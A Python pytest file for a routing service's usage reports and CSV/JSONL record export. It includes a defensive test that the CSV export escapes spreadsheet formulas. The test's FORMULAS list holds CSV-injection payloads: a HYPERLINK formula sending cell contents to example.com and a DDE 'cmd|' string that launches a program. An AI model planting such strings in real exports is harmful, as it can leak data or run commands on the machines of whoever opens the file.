"""What was used, and records as lines."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterable, Sequence
from datetime import date
from pathlib import Path
from typing import Any, get_type_hints

import pytest

from llama_compat.distribution import RecordsSettings
from routing.observability.records.bodies import Body
from routing.observability.records.export import FIELDS, export, export_bodies
from routing.observability.records.partitions import DAY_SECONDS
from routing.observability.records.record import MIGRATIONS, Record
from routing.observability.records.recorder import Recorder
from routing.observability.records.reports import PAGE, GroupBy, Since, Use, parse_since, usage
from routing.storage.storage import Storage, open_storage
from tests.unit.routing.observability.records.records import NOON, record

TODAY = 20_000
MIDNIGHT = TODAY * DAY_SECONDS


@pytest.mark.parametrize(
    ("text", "since"),
    [
        ("1d", Since(MIDNIGHT, True)),
        ("7d", Since(MIDNIGHT - 6 * DAY_SECONDS, True)),
        ("2w", Since(MIDNIGHT - 13 * DAY_SECONDS, True)),
        ("12h", Since(NOON - 12 * 3600, False)),
        ("30m", Since(NOON - 1800, False)),
        ("1970-01-02", Since(DAY_SECONDS, True)),
    ],
)
def test_since_when(text: str, since: Since) -> None:
    assert parse_since(text, NOON) == since


@pytest.mark.parametrize("text", ["", "7", "d", "0d", "7y", "-7d", "2026-13-01", "7d ago"])
def test_no_time(text: str) -> None:
    with pytest.raises(ValueError, match=r"is no time such as|month must be in"):
        parse_since(text)


async def filled(address: str, records: Sequence[Record], bodies: Sequence[Body] = ()) -> Storage:
    """A storage, open, with these in it."""
    recorder = Recorder(open_storage(address, [MIGRATIONS]), RecordsSettings())
    await recorder.start()
    recorder.put(*records)
    for each in bodies:
        recorder.put_body(each)
    await recorder.stop()
    storage = open_storage(address, [MIGRATIONS])
    await storage.start()
    return storage


RECORDS = (
    record(key="a", cost=5000, cached_tokens=40),
    record(key="b", cost=None, duration=0.5),
    record(key="a", provider="other", cost=7000, time=NOON - DAY_SECONDS),
    record(key="a", route="n", error="timeout", input_tokens=None, output_tokens=None, cost=None),
    record(key="b", cost=1, time=NOON - 2 * DAY_SECONDS, estimated=1, cancelled=1),
)


def simple(uses: Sequence[Use]) -> list[tuple[Any, ...]]:
    return [(*use.keys, use.requests, use.cost, use.unpriced) for use in uses]


@pytest.mark.parametrize(
    ("by", "expected"),
    [
        (["key"], [("a", 3, 12000, 0), ("b", 2, 1, 1)]),
        (["model"], [("m", 4, 12001, 1), ("n", 1, 0, 0)]),
        (["provider"], [("other", 1, 7000, 0), ("up", 4, 5001, 1)]),
        (
            ["day"],
            [
                (date(2024, 10, 2), 1, 1, 0),
                (date(2024, 10, 3), 1, 7000, 0),
                (date(2024, 10, 4), 3, 5000, 1),
            ],
        ),
        (
            ["model", "day"],
            [
                ("m", date(2024, 10, 2), 1, 1, 0),
                ("m", date(2024, 10, 3), 1, 7000, 0),
                ("m", date(2024, 10, 4), 2, 5000, 1),
                ("n", date(2024, 10, 4), 1, 0, 0),
            ],
        ),
        ([], [(5, 12001, 1)]),
    ],
)
async def test_use_is_told_apart(
    address: str, by: list[GroupBy], expected: list[tuple[Any, ...]]
) -> None:
    storage = await filled(address, RECORDS)
    for since in (Since(MIDNIGHT - 2 * DAY_SECONDS, True), Since(0, False)):
        assert simple(await usage(storage, by, since)) == expected
    await storage.stop()


async def test_use_begins_then(address: str) -> None:
    storage = await filled(address, RECORDS)
    assert simple(await usage(storage, [], Since(MIDNIGHT - DAY_SECONDS, True))) == [(4, 12000, 1)]
    assert simple(await usage(storage, [], Since(NOON - DAY_SECONDS, False))) == [(4, 12000, 1)]
    assert simple(await usage(storage, [], Since(NOON - DAY_SECONDS + 1, False))) == [(3, 5000, 1)]
    assert await usage(storage, [], Since(NOON + DAY_SECONDS, True)) == []
    await storage.stop()


async def test_all_that_is_added_up(address: str) -> None:
    storage = await filled(address, RECORDS)
    (use,) = await usage(storage, [], Since(0, True))
    assert use == Use((), 5, 1, 1, 400, 40, 0, 40, 0, 1, 12001, 1, 1500)
    await storage.stop()


@pytest.mark.parametrize(
    ("use", "dollars"),
    [
        (Use((), 1, cost=1_500_000_000), 1.5),
        (Use((), 2, cost=1_500_000_000, unpriced=1), 1.5),
        (Use((), 1), 0.0),
        (Use((), 1, unpriced=1), None),
    ],
)
def test_what_is_not_known_is_not_nothing(use: Use, dollars: float | None) -> None:
    assert use.dollars == dollars


# Lines --------------------------------------------------------------------------------------------


async def text_of(pages: AsyncIterable[str]) -> str:
    return "".join([page async for page in pages])


async def test_lines_of_json(address: str) -> None:
    storage = await filled(address, RECORDS)
    lines = (await text_of(export(storage, NOON - DAY_SECONDS, "jsonl"))).splitlines()
    await storage.stop()
    assert len(lines) == 4
    first, *_, failed = map(json.loads, lines)
    assert tuple(sorted(first)) == tuple(sorted(FIELDS))
    assert first["time"] == "2024-10-04T12:00:00.000+00:00"
    assert (first["cost_usd"], first["stream"]) == (5e-06, False)
    assert (failed["cost_usd"], failed["input_tokens"], failed["error"]) == (None, None, "timeout")


async def test_a_table(address: str) -> None:
    storage = await filled(address, [record(message='says "no", twice'), RECORDS[3]])
    rows = list(csv.DictReader(io.StringIO(await text_of(export(storage, 0, "csv")))))
    await storage.stop()
    assert [row["message"] for row in rows] == ['says "no", twice', ""]
    assert (rows[0]["cost_usd"], rows[1]["cost_usd"]) == ("1e-06", "")
    assert tuple(rows[0]) == FIELDS


# The trail is JSON, a list where there is one.
TEXTS = [name for name, kind in get_type_hints(Record).items() if kind is str and name != "trail"]

FORMULAS = [
    '=HYPERLINK("http://example.com?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "＝1",
]


@pytest.mark.parametrize("text", FORMULAS)
async def test_no_text_of_a_table_is_a_formula(tmp_path: Path, text: str) -> None:
    # Ids and models are clients' words, messages and reasons vendors', names the template's.
    given = record(**dict.fromkeys(TEXTS, text))
    storage = await filled(f"sqlite:{tmp_path / 'r.sqlite'}", [given])
    table = await text_of(export(storage, 0, "csv"))
    lines = await text_of(export(storage, 0, "jsonl"))
    await storage.stop()
    [row] = csv.DictReader(io.StringIO(table, newline=""))
    assert {row[name] for name in TEXTS} == {f"'{text}"}
    # Programs get what was said.
    assert {json.loads(lines)[name] for name in TEXTS} == {text}


async def test_other_texts_of_a_table_are_as_they_were_said(tmp_path: Path) -> None:
    said = ["a\r=1", "a\n=1", "req_1=2", "claude-opus", "a@b", "", "'quoted", "1-2", " spaced"]
    given = [record(model=each) for each in said]
    storage = await filled(f"sqlite:{tmp_path / 'r.sqlite'}", given)
    table = await text_of(export(storage, 0, "csv"))
    await storage.stop()
    assert [row["model"] for row in csv.DictReader(io.StringIO(table, newline=""))] == said


async def test_more_than_a_page(address: str) -> None:
    storage = await filled(address, [record(request_id=f"r{n}") for n in range(2 * PAGE + 1)])
    lines = (await text_of(export(storage, 0, "jsonl"))).splitlines()
    await storage.stop()
    assert [json.loads(line)["request_id"] for line in lines] == [
        f"r{number}" for number in range(2 * PAGE + 1)
    ]


async def test_bodies(address: str) -> None:
    bodies = [
        Body(NOON + n, f"r{n}", b"asks", b"says \xff", False, False, False)
        for n in range(PAGE // 10 + 1)
    ]
    storage = await filled(address, [record() for _ in bodies], bodies)
    lines = (await text_of(export_bodies(storage, NOON + 1))).splitlines()
    await storage.stop()
    assert len(lines) == PAGE // 10
    assert json.loads(lines[0]) == {
        "time": "2024-10-04T12:00:01.000+00:00",
        "request_id": "r1",
        "request": "asks",
        "reply": "says \ufffd",
        "headers": [],
    }


async def test_hours_come_from_their_sums_and_the_first_part_of_one_from_records(
    address: str,
) -> None:
    """At any second of an hour the use is that of the records since then."""
    times = [NOON + each for each in (0, 1799, 1800, 3599, 3600, 3601, 90_000)]
    storage = await filled(address, [record(time=each, duration=0.1) for each in times])
    for since in (NOON - 1, NOON, NOON + 0.5, NOON + 1800, NOON + 3599.5, NOON + 3600, NOON + 3601):
        (use,) = await usage(storage, ["model"], Since(since, False))
        later = [each for each in times if each >= since]
        assert (use.requests, use.milliseconds) == (len(later), 100 * len(later))
        days = await usage(storage, ["day"], Since(since, False))
        assert [each.requests for each in days] == [len(later) - 1, 1]
    # What is whole comes from the sums.
    async with storage.transaction() as transaction:
        await transaction.fetch("DELETE FROM records")
    (use,) = await usage(storage, ["model"], Since(NOON, False))
    assert use.requests == len(times)
    await storage.stop()
